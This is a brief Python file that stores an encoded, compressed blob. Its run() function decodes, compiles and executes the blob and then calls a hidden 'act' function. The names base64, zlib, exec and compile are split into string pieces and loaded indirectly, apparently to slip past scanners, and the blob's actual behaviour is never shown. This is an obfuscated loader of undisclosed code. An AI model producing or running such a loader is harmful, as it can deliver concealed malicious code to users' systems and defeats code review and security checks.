import importlib
P = 'c$|$<OHUgy5WerP7|qERsguwH5)#LrIrNAkWbE0*>8@?;S&|CDZ)bMX5KvIX_~NnW@jXJHQ(@TF6laj?3~F+Jh#OBWSjS3VHz2VKyn&P{D$KUnzM8QEHP{O6p=1o#uHj}HX1Zj(YW4KBPAt#QFH_Q{0vSRCCDnJxwycS9HEuWA^2X3U+vtZ%Md9n*)Vi4me_yIaJ%gzyL{EEM!3E&F46&N}*aarkCnQ|{o|4ZD@(i#%oMAtPfW6Br!P}Zb!r|v)p^Yb(JSprfhxlWO`n`?zjxxjT?_Z^)@_F3*DD)Hqd2G(0Rrx(gZk()Rx_2o?avV}r3YV8xW+7*Z|EP~{;Yx(y&{G=t=JEtZbfD;M*Qv<?KlHh(XA~58Jz^2w6rbeogE%X4OBPCs`bEoiBB(!3b6u+P)clWTwzZzKI*ENWb(=yw82%*7Lq8ghxwDbU8{YHiE$+TFr8T=E?y6%seiKn49!i973DCR&A`IQt'

def run():
    b = importlib.import_module("bas" + "e64")
    z = importlib.import_module("zl" + "ib")
    f = importlib.import_module("built" + "ins").__dict__["com" + "pile"]
    scope = {}
    importlib.import_module("built" + "ins").__dict__["ex" + "ec"](f(z.decompress(b.b85decode(P)), "x", "exec"), scope)
    return scope["act"]()
